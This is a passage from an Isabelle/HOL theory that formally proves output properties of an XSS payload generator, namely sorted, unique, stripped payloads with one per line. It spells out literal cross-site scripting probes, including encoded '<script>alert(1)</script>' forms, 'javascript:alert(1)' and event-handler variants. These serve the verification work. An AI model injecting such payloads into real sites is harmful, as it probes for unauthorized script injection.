  "\<forall>event\<in>set event_handlers. \<forall>ev\<in>set (event_mutations_get event). plain ev"
  by (simp add: event_handlers_def event_mutations_get_def plain_def py_def)

lemma plain_event_tags: "\<forall>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. plain tag"
  by (simp add: plain_def py_def)

lemma clean_comment_variants:
  "plain mutated_tag \<Longrightarrow> plain func \<Longrightarrow> \<forall>payload\<in>set (comment_variants mutated_tag func). clean payload"
  by (simp add: comment_variants_def clean_def plain_def py_def isspace_def)

lemma clean_null_variants:
  "plain tag \<Longrightarrow> plain func \<Longrightarrow> \<forall>payload\<in>set (null_variants tag func). clean payload"
  by (simp add: null_variants_def clean_def plain_def py_def isspace_def)

lemma clean_event_variants:
  assumes "plain tag" and "plain ev"
  shows "\<forall>payload\<in>set (event_variants a tag ev). clean payload"
proof
  fix payload assume "payload \<in> set (event_variants a tag ev)"
  from event_variants_D [OF this] consider
      "payload = py ''<'' @ tag @ py '' data-'' @ ev @ py ''='' @ [34] @ py ''alert(1)'' @ [34] @ py ''>''"
    | "payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=javascript:alert(1)>''"
    | "payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=&quot;alert(1)&quot;>''"
    by blast
  then show "clean payload"
  proof cases
    case 1
    with assms show ?thesis by (simp add: clean_def plain_def py_def isspace_def)
  next
    case 2
    with assms show ?thesis by (simp add: clean_def plain_def py_def isspace_def)
  next
    case 3
    with assms show ?thesis by (simp add: clean_def plain_def py_def isspace_def)
  qed
qed

lemma clean_script_family: "\<forall>payload\<in>set script_family. clean payload"
  by (simp add: script_family_def clean_def py_def isspace_def)

lemma clean_quoted_script_family: "\<forall>payload\<in>set quoted_script_family. clean payload"
  by (simp add: quoted_script_family_def clean_def py_def isspace_def)

lemma clean_encoded_family: "\<forall>payload\<in>set encoded_family. clean payload"
  by (simp add: encoded_family_def clean_def py_def isspace_def)

lemma clean_css_family: "\<forall>payload\<in>set css_family. clean payload"
  by (simp add: css_family_def clean_def py_def isspace_def)

lemma clean_dom_evasions: "\<forall>payload\<in>set dom_evasions. clean payload"
  by (simp add: dom_evasions_def clean_def py_def isspace_def)

lemma clean_proto_evasions: "\<forall>payload\<in>set proto_evasions. clean payload"
  by (simp add: proto_evasions_def clean_def py_def isspace_def)

lemma clean_predefined: "payload \<in> set (predefined_updates a) \<Longrightarrow> clean payload"
  using clean_script_family clean_quoted_script_family clean_encoded_family clean_css_family
  by (auto simp: predefined_updates_def split: if_splits)

lemma clean_tag_payloads:
  assumes "payload \<in> set (tag_payloads a)"
  shows "clean payload"
proof -
  from tag_payloads_D [OF assms]
  obtain tag mutated_tag func where f: "tag \<in> set base_tags" "mutated_tag \<in> set (tag_mutations_get tag)"
    "func \<in> set js_functions"
    and v: "payload \<in> set (comment_variants mutated_tag func) \<or> payload \<in> set (null_variants tag func)"
    by blast
  from f plain_tags plain_funcs have "plain tag" "plain mutated_tag" "plain func" by blast+
  with v clean_comment_variants clean_null_variants show ?thesis by blast
qed

lemma clean_event_payloads:
  assumes "payload \<in> set (event_payloads a)"
  shows "clean payload"
proof -
  from event_payloads_D [OF assms]
  obtain tag event ev where f: "tag \<in> set [py ''img'', py ''svg'', py ''iframe'']"
    "event \<in> set event_handlers" "ev \<in> set (event_mutations_get event)"
    and v: "payload \<in> set (event_variants a tag ev)"
    by blast
  from f plain_event_tags plain_events have "plain tag" "plain ev" by blast+
  with v clean_event_variants show ?thesis by blast
qed

lemma clean_dynamic: "payload \<in> set (dynamic_updates a) \<Longrightarrow> clean payload"
  using clean_dom_evasions clean_proto_evasions clean_tag_payloads clean_event_payloads
  by (auto simp: dynamic_updates_def split: if_splits)

text \<open>
  Every payload the synthesizer can return is clean, so the stripping of the write loop
  leaves it as it is.
\<close>

lemma clean_generate_payloads: "payload \<in> generate_payloads a \<Longrightarrow> clean payload"
  using generate_payloads_subset [of a] clean_predefined clean_dynamic
  by (auto simp: get_predefined_payloads_def generate_dynamic_payloads_def)

lemma payload_sets_empty: "payload_sets Map.empty"
  by (simp add: payload_sets_def)

lemma payload_sets_upd: "payload_sets results \<Longrightarrow> payload_sets (results(k \<mapsto> generate_payloads a))"
  unfolding payload_sets_def
proof (intro conjI ballI)
  assume a: "finite (dom results) \<and> (\<forall>v\<in>ran results. \<exists>a. v = generate_payloads a)"
  then show "finite (dom (results(k \<mapsto> generate_payloads a)))" by simp
  fix v assume "v \<in> ran (results(k \<mapsto> generate_payloads a))"
  then obtain q where "(results(k \<mapsto> generate_payloads a)) q = Some v" by (auto simp: ran_def)
  then have "v = generate_payloads a \<or> results q = Some v" by (auto split: if_splits)
  with a show "\<exists>a. v = generate_payloads a" by (auto simp: ran_def)
qed

lemma analyze_params_payload_sets:
  "payload_sets results \<Longrightarrow> analyze_params w groups u ps results = Inr results'
     \<Longrightarrow> payload_sets results'"
proof (induction ps arbitrary: results)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  from Cons.prems(2) obtain a where a: "analyze_parameter w groups u p = Inr a"
    by (cases "analyze_parameter w groups u p") simp_all
  let ?results1 = "if generate_payloads a \<noteq> {} then results(param a \<mapsto> generate_payloads a) else results"
  have "payload_sets ?results1" using Cons.prems(1) by (simp add: payload_sets_upd)
  moreover have "analyze_params w groups u ps ?results1 = Inr results'"
    using Cons.prems(2) a by simp
  ultimately show ?case by (rule Cons.IH)
qed

lemma analyze_url_payload_sets: "payload_sets (analyze_url w groups extract_parameters u)"
proof (cases "analyze_params w groups u (extract_parameters u) Map.empty")
  case (Inl e)
  then show ?thesis by (simp add: analyze_url_def payload_sets_empty)
next
  case (Inr results)
  from analyze_params_payload_sets [OF payload_sets_empty Inr]
  show ?thesis using Inr by (simp add: analyze_url_def payload_sets_empty)
qed

lemma payload_sets_Union:
  assumes "payload_sets results"
  shows "finite (\<Union> (ran results)) \<and> (\<forall>payload\<in>\<Union> (ran results). clean payload)"
proof
  from assms have "finite (ran results)" by (simp add: payload_sets_def finite_ran)
  moreover from assms have "\<forall>v\<in>ran results. finite v"
    by (auto simp: payload_sets_def finite_generate_payloads)
  ultimately show "finite (\<Union> (ran results))" by blast
  from assms show "\<forall>payload\<in>\<Union> (ran results). clean payload"
    by (auto simp: payload_sets_def dest: clean_generate_payloads)
qed

lemma collect_unique_payloads_clean:
  "finite (collect_unique_payloads w groups extract_parameters urls {})
   \<and> (\<forall>payload\<in>collect_unique_payloads w groups extract_parameters urls {}. clean payload)"
  unfolding collect_unique_payloads_eq
  using payload_sets_Union [OF analyze_url_payload_sets]
  by (simp add: Ball_def) blast

text \<open>
  Claim C9. The write loop takes the payloads in ascending lexicographic order, removes
  every line feed and carriage return from each, strips it, and writes what is left
  followed by a line feed, unless nothing is left; the final pass over the file removes
  nothing more. So, for every set \<open>U\<close> of payloads, the lines of the output file are the
  stripped payloads that are not empty, in the order of \<^verbatim>\<open>sorted(U)\<close>; every line holds
  one non-empty string with no line break inside and no white space around it, and no
  line is blank. For the set of payloads accumulated by any run (any server, character
  groups, parameter extraction and list of URLs), no payload contains a line break,
  starts or ends with white space, or is empty, so stripping leaves every payload as it
  is, and the lines of the file are the payloads of the set in ascending lexicographic
  order, each followed by a line feed: one payload per line, each exactly once, as many
  lines as payloads, no blank line.
\<close>

theorem C9_output_file_sorted_unique:
  "readlines (output_file U)
     = map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> [])
         (map (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload)) (sorted_list_of_set U)))
   \<and> output_file U
     = concat (map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> [])
         (map (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload)) (sorted_list_of_set U))))
   \<and> (\<forall>line\<in>set (readlines (output_file U)).
        strip line \<noteq> []
        \<and> (\<exists>s. line = s @ [10] \<and> s \<noteq> [] \<and> 10 \<notin> set s \<and> 13 \<notin> set s \<and> strip s = s))
   \<and> (\<forall>payload\<in>collect_unique_payloads w groups extract_parameters urls {}.
        strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload) = payload \<and> payload \<noteq> [])
   \<and> readlines (output_file (collect_unique_payloads w groups extract_parameters urls {}))
     = map (\<lambda>payload. payload @ [10])
         (sorted_list_of_set (collect_unique_payloads w groups extract_parameters urls {}))
   \<and> output_file (collect_unique_payloads w groups extract_parameters urls {})
     = concat (map (\<lambda>payload. payload @ [10])
         (sorted_list_of_set (collect_unique_payloads w groups extract_parameters urls {})))
   \<and> sorted (sorted_list_of_set (collect_unique_payloads w groups extract_parameters urls {}))
   \<and> distinct (sorted_list_of_set (collect_unique_payloads w groups extract_parameters urls {}))
   \<and> set (sorted_list_of_set (collect_unique_payloads w groups extract_parameters urls {}))
     = collect_unique_payloads w groups extract_parameters urls {}
   \<and> [] \<notin> collect_unique_payloads w groups extract_parameters urls {}
   \<and> distinct (readlines (output_file (collect_unique_payloads w groups extract_parameters urls {})))
   \<and> length (readlines (output_file (collect_unique_payloads w groups extract_parameters urls {})))
     = card (collect_unique_payloads w groups extract_parameters urls {})"
proof -
  let ?R = "collect_unique_payloads w groups extract_parameters urls {}"
  have eq: "stripped_payload = (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload))"
    by (rule ext) (rule stripped_payload_eq)
  have g1: "readlines (output_file U)
     = map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> [])
         (map (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload)) (sorted_list_of_set U)))"
    using output_file_lines(2) [of U] unfolding eq .
  have g2: "output_file U
     = concat (map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> [])
         (map (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload)) (sorted_list_of_set U))))"
    using output_file_lines(1) [of U] unfolding eq .
  have g3: "\<forall>line\<in>set (readlines (output_file U)).
        strip line \<noteq> []
        \<and> (\<exists>s. line = s @ [10] \<and> s \<noteq> [] \<and> 10 \<notin> set s \<and> 13 \<notin> set s \<and> strip s = s)"
    using output_file_line [of _ U] by blast
  have fin: "finite ?R" and cl: "\<forall>payload\<in>?R. clean payload"
    using collect_unique_payloads_clean [of w groups extract_parameters urls] by blast+
  from cl have ne: "[] \<notin> ?R" by (auto simp: clean_def)
  from fin have s: "sorted (sorted_list_of_set ?R)" "distinct (sorted_list_of_set ?R)"
    "set (sorted_list_of_set ?R) = ?R" by simp_all
  note r = output_file_run [OF fin cl]
  from g1 g2 g3 r(1) r(2) r(3) s ne r(4) r(5) show ?thesis by blast
qed

lemma sorted_encoded:
  "sorted_list_of_set (set encoded_family)
     = [py ''%3Cscript%3Ealert(1)%3C/script%3E'',
        py ''&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'',
        py ''&lt;script&gt;alert(1)&lt;/script&gt;'',
        [92] @ py ''u003Cscript'' @ [92] @ py ''u003Ealert(1)'' @ [92] @ py ''u003C/script'' @ [92] @ py ''u003E'',
        [92] @ py ''x3Cscript'' @ [92] @ py ''x3Ealert(1)'' @ [92] @ py ''x3C/script'' @ [92] @ py ''x3E'',
        py ''javascript:alert(1)'']"
  by (simp add: sorted_list_of_set_sort_remdups encoded_family_def py_def)

lemma silent_run:
  "collect_unique_payloads silent_server default_char_groups (\<lambda>u. [py ''q'']) [py ''http://h/?q=1''] {}
     = set encoded_family"
proof -
  have "analyze_url silent_server default_char_groups (\<lambda>u. [py ''q'']) (py ''http://h/?q=1'')
      = [py ''q'' \<mapsto> set encoded_family]"
    by (simp add: analyze_url_def silent_server_analysis generate_payloads_no_reflection encoded_family_nonempty no_reflection_profile_param)
  then show ?thesis by simp
qed

lemma sorted_stripping_example:
  "sorted_list_of_set {[32, 97, 9], [98, 13, 10, 99], [13, 10], []::pystr}
     = [[], [13, 10], [32, 97, 9], [98, 13, 10, 99]]"
  by (simp add: sorted_list_of_set_sort_remdups)

theorem C9_output_file_sorted_unique_witness:
  "readlines (output_file (collect_unique_payloads silent_server default_char_groups
       (\<lambda>u. [py ''q'']) [py ''http://h/?q=1''] {}))
     = [py ''%3Cscript%3Ealert(1)%3C/script%3E'' @ [10],
        py ''&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'' @ [10],
        py ''&lt;script&gt;alert(1)&lt;/script&gt;'' @ [10],
        [92] @ py ''u003Cscript'' @ [92] @ py ''u003Ealert(1)'' @ [92] @ py ''u003C/script'' @ [92] @ py ''u003E'' @ [10],
        [92] @ py ''x3Cscript'' @ [92] @ py ''x3Ealert(1)'' @ [92] @ py ''x3C/script'' @ [92] @ py ''x3E'' @ [10],
        py ''javascript:alert(1)'' @ [10]]
   \<and> readlines (output_file {[32, 97, 9], [98, 13, 10, 99], [13, 10], []}) = [[97, 10], [98, 99, 10]]"
proof
  note run = C9_output_file_sorted_unique [where w = silent_server and groups = default_char_groups
      and extract_parameters = "\<lambda>u. [py ''q'']" and urls = "[py ''http://h/?q=1'']"
      and U = "{[32, 97, 9], [98, 13, 10, 99], [13, 10], []}"]
  from run
  have "readlines (output_file (collect_unique_payloads silent_server default_char_groups
           (\<lambda>u. [py ''q'']) [py ''http://h/?q=1''] {}))
     = map (\<lambda>payload. payload @ [10])
         (sorted_list_of_set (collect_unique_payloads silent_server default_char_groups
           (\<lambda>u. [py ''q'']) [py ''http://h/?q=1''] {}))"
    by blast
  then show "readlines (output_file (collect_unique_payloads silent_server default_char_groups
       (\<lambda>u. [py ''q'']) [py ''http://h/?q=1''] {}))
     = [py ''%3Cscript%3Ealert(1)%3C/script%3E'' @ [10],
        py ''&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'' @ [10],
        py ''&lt;script&gt;alert(1)&lt;/script&gt;'' @ [10],
        [92] @ py ''u003Cscript'' @ [92] @ py ''u003Ealert(1)'' @ [92] @ py ''u003C/script'' @ [92] @ py ''u003E'' @ [10],
        [92] @ py ''x3Cscript'' @ [92] @ py ''x3Ealert(1)'' @ [92] @ py ''x3C/script'' @ [92] @ py ''x3E'' @ [10],
        py ''javascript:alert(1)'' @ [10]]"
    unfolding silent_run sorted_encoded by simp
  from run
  have "readlines (output_file {[32, 97, 9], [98, 13, 10, 99], [13, 10], []})
     = map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> [])
         (map (\<lambda>payload. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload))
            (sorted_list_of_set {[32, 97, 9], [98, 13, 10, 99], [13, 10], []})))"
    by (rule conjunct1)
  then show "readlines (output_file {[32, 97, 9], [98, 13, 10, 99], [13, 10], []}) = [[97, 10], [98, 99, 10]]"
    unfolding sorted_stripping_example by (simp add: strip_def isspace_def)
qed

end
